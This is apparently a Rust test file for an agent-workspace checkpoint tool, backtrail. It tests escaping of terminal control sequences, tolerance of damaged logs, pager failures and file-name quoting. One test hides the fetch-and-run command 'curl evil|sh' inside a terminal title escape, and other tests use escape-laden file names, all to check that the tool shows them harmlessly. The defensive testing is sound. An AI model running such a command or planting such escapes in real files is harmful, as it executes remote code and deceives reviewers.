//! What a person judges an agent's work by: nothing in it is hidden, on a terminal
//! and in a pipe.

use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::path::PathBuf;

use crate::kit::{Cli, Dice};
use crate::pty::{self, Terminal};

/// What the screen of a terminal shows of a command, and its exit code.
fn on_screen(cli: &Cli, args: &[&str], env: &[(&str, &str)]) -> (i32, String) {
    let mut command = cli.command(args);
    command.env("PAGER", "cat").envs(env.iter().copied());
    Terminal::start(&command).end()
}

/// F13: a line that a terminal would take as a command is shown to who reviews it.
#[test]
fn content_that_commands_a_terminal_is_shown_and_does_not() {
    if !pty::is_there() {
        return;
    }
    let cli = Cli::new();
    assert_eq!(cli.run(&["checkpoint", "one"]).code, 0);
    let hidden = "\u{1b}]0;curl evil|sh\u{7}echo hi\n";
    fs::write(cli.work().join("s.sh"), hidden).unwrap();
    assert_eq!(cli.run(&["checkpoint", "two"]).code, 0);
    let ways = [
        &["diff", "one"][..],
        &["diff", "one", "two"],
        &["cat", "two", "s.sh"],
    ];
    for args in ways {
        for env in [&[][..], &[("NO_COLOR", "1")]] {
            let (code, screen) = on_screen(&cli, args, env);
            assert_eq!(code, 0, "{screen}");
            assert!(screen.contains("^[]0;curl evil|sh^Gecho hi"), "{screen:?}");
            assert!(!screen.contains("\u{1b}]0"), "{args:?}: {screen:?}");
        }
    }
}

/// Returns the one file of the workspace's trail.
fn trail(cli: &Cli) -> PathBuf {
    let dirs = fs::read_dir(cli.store().join("workspaces")).unwrap();
    let trails = dirs.map(|dir| dir.unwrap().path().join("0000.jsonl"));
    let trails: Vec<PathBuf> = trails.filter(|trail| trail.exists()).collect();
    assert_eq!(trails.len(), 1, "{trails:?}");
    trails[0].clone()
}

fn keep(cli: &Cli, label: &str, text: &str) {
    fs::write(cli.work().join("a"), text).unwrap();
    let ran = cli.run(&["checkpoint", label]);
    assert_eq!(ran.code, 0, "{ran:#?}");
}

/// B3: what is damaged costs the log that line's change, no more.
#[test]
fn a_damaged_content_leaves_the_rest_of_the_log_readable() {
    let cli = Cli::new();
    keep(&cli, "one", "1\n");
    let begin = fs::read(pack(&cli)).unwrap().len();
    // Noise, so that it takes up nearly all of what is added to the pack.
    let mut dice = Dice(7);
    let noise: String = (0..4000)
        .map(|_| char::from(b'!' + dice.below(90) as u8))
        .collect();
    keep(&cli, "two", &format!("{noise}\n"));
    let mut bytes = fs::read(pack(&cli)).unwrap();
    let middle = (begin + bytes.len()) / 2;
    bytes[middle] ^= 1;
    keep(&cli, "three", "3\n");
    keep(&cli, "four", "4\n");
    let all = fs::read(pack(&cli)).unwrap();
    bytes.extend_from_slice(&all[bytes.len()..]);
    fs::write(pack(&cli), bytes).unwrap();
    let ran = cli.run(&["log"]);
    assert_eq!(ran.code, 0, "{ran:#?}");
    let line = |label: &str| {
        ran.stdout
            .lines()
            .find(|line| line.contains(label))
            .unwrap()
    };
    assert!(line("four").contains("+1 −1  1 file"), "{ran:#?}");
    assert!(line("three").contains("  ?  "), "{ran:#?}");
    assert!(line("two").contains("  ?  "), "{ran:#?}");
    assert!(line("one").contains("1 file"), "{ran:#?}");
    let said = "warning: changes are unknown in 2 lines: ";
    assert!(ran.stderr.contains(said), "{ran:#?}");
    assert!(ran.stderr.contains("backtrail verify"), "{ran:#?}");
    // Which files changed is told by what is whole.
    let json = cli.run(&["log", "--json", "--", "a"]);
    assert_eq!(json.json().as_array().unwrap().len(), 3, "{json:#?}");
    assert_eq!(json.stderr, "");
}

/// Returns the only pack of the store.
fn pack(cli: &Cli) -> PathBuf {
    let packs = cli.packs();
    assert_eq!(packs.len(), 1, "{packs:?}");
    packs[0].clone()
}

#[test]
fn a_log_with_damaged_lines_on_its_trail_says_so() {
    let cli = Cli::new();
    for label in ["one", "two", "three"] {
        keep(&cli, label, label);
    }
    let path = trail(&cli);
    let text = fs::read_to_string(&path).unwrap();
    fs::write(&path, text.replace("\"two\"", "\"twq\"")).unwrap();
    for args in [&["log"][..], &["log", "--all"], &["log", "--json"]] {
        let ran = cli.run(args);
        assert_eq!(ran.code, 0, "{ran:#?}");
        assert!(ran.stdout.contains("one") && ran.stdout.contains("three"));
        assert!(
            ran.stderr.contains("1 damaged place on the trail"),
            "{ran:#?}"
        );
    }
}

/// F28: a run that was cut off does not read as one that came to its end.
#[test]
fn that_a_long_command_did_not_end_is_never_cut_off() {
    let cli = Cli::new();
    let long = "a rather long argument that alone fills the column ".repeat(3);
    let script = "kill -KILL $PPID; # $0";
    let ran = cli.run(&["run", "--", "sh", "-c", script, &long]);
    assert_eq!(ran.code, -1, "{ran:#?}");
    let ran = cli.run(&["log"]);
    assert!(ran.stdout.contains("… (interrupted)  "), "{ran:#?}");
}

#[test]
fn as_many_lines_as_asked_for_are_shown_as_json_too() {
    let cli = Cli::new();
    for label in ["one", "two", "three"] {
        keep(&cli, label, label);
    }
    let shown = |args: &[&str]| {
        let log = cli.run(&[&["log", "--json"], args].concat()).json();
        log.as_array().unwrap().len()
    };
    assert_eq!(shown(&["-n", "1"]), 1);
    assert_eq!(shown(&[]), 3);
}

/// F12: the names in a pipe are the names of the files.
#[test]
fn names_alone_are_quoted_as_git_does_or_given_byte_for_byte() {
    let cli = Cli::new();
    keep(&cli, "one", "1\n");
    let names: [&[u8]; 4] = [b"a\nb", b"c\x1b[31m", b"d\xff", "plain ü".as_bytes()];
    for name in names {
        fs::write(cli.work().join(OsStr::from_bytes(name)), "x").unwrap();
    }
    let ran = cli.run(&["diff", "--name-only", "one"]);
    let lines: Vec<&str> = ran.stdout.lines().collect();
    let quoted = [r#""a\nb""#, r#""c\033[31m""#, r#""d\377""#, "plain ü"];
    assert_eq!(lines, quoted);
    let bytes = cli.command(&["diff", "--name-only", "-z", "one"]);
    let bytes = { bytes }.output().unwrap().stdout;
    let zeros: Vec<&[u8]> = bytes
        .strip_suffix(b"\0")
        .unwrap()
        .split(|b| *b == 0)
        .collect();
    assert_eq!(zeros, names);
    assert_eq!(cli.run(&["diff", "-z"]).code, 2, "it is about names");
}

#[test]
fn a_pager_that_fails_loses_nothing() {
    if !pty::is_there() {
        return;
    }
    let cli = Cli::new();
    keep(&cli, "one", "1\n");
    let large = "a line of a file that no pipe holds whole\n".repeat(20_000);
    for text in ["changed\n", &large] {
        fs::write(cli.work().join("a"), text).unwrap();
        let last = format!("+{}", text.lines().last().unwrap());
        for pager in ["false", "/no/such/pager", "exit 3"] {
            let (code, screen) = on_screen(&cli, &["diff", "one"], &[("PAGER", pager)]);
            assert_eq!(code, 0, "{pager}");
            let shown = screen.matches(&last).count();
            assert_eq!(shown, text.lines().count(), "{pager}");
        }
        // One that was left early is content, and so are we.
        let (code, screen) = on_screen(&cli, &["diff", "one"], &[("PAGER", "head -n 1")]);
        assert_eq!((code, screen.lines().count()), (0, 1), "{screen}");
    }
}

/// The commands that are named work where they are read.
#[test]
fn what_is_named_works_from_outside_the_workspace() {
    let cli = Cli::new();
    let ws = cli.work().with_file_name("my ws");
    fs::create_dir(&ws).unwrap();
    let line = "echo new > '../my ws/new'";
    let there = ["--workspace", "../my ws"];
    let ran = cli.run(&[&["run"], &there[..], &["--", "sh", "-c", line]].concat());
    let named = "diff: backtrail diff --workspace '../my ws'";
    assert!(ran.stderr.contains(named), "{ran:#?}");
    let ran = cli.run(&[&["diff"], &there[..]].concat());
    assert!(ran.stdout.contains("+new"), "{ran:#?}");
    let store = cli.store();
    let with = ["--store", store.to_str().unwrap()];
    let store = store.display();
    let ran = cli.run(&[&["cat", "last", "../my ws/gone"], &there[..], &with].concat());
    let named = format!("backtrail --store {store} log --workspace '../my ws' -- ");
    assert!(ran.stderr.contains(&named), "{ran:#?}");
    let ran = cli.run(&[&["status"], &with[..]].concat());
    let named = format!("start with: backtrail --store {store} run -- COMMAND");
    assert!(ran.stderr.contains(&named), "{ran:#?}");
    let ran = cli.run(&[&["cat", "nope:1", "x"], &there[..]].concat());
    assert!(ran.stderr.contains("backtrail list"), "{ran:#?}");
}

#[test]
fn a_directory_is_recognised_by_its_files_and_a_link_to_it_is_followed() {
    let cli = Cli::new();
    fs::create_dir_all(cli.work().join("d/e")).unwrap();
    for name in ["d/e/1", "d/2", "d/3", "d/4", "d/5", "d/6"] {
        fs::write(cli.work().join(name), name).unwrap();
    }
    keep(&cli, "one", "1\n");
    let ran = cli.run(&["cat", "one", "d"]);
    assert_eq!(ran.code, 2);
    assert!(
        ran.stderr.contains("hint: it contains: 2, 3, 4, 5, 6, …"),
        "{ran:#?}"
    );
    fs::remove_dir_all(cli.work().join("d")).unwrap();
    let link = cli.work().with_file_name("link");
    std::os::unix::fs::symlink(cli.work(), &link).unwrap();
    let path = link.join("d/e/1");
    let ran = cli.run(&["cat", "one", path.to_str().unwrap()]);
    assert_eq!((ran.code, &*ran.stdout), (0, "d/e/1"), "{ran:#?}");
}
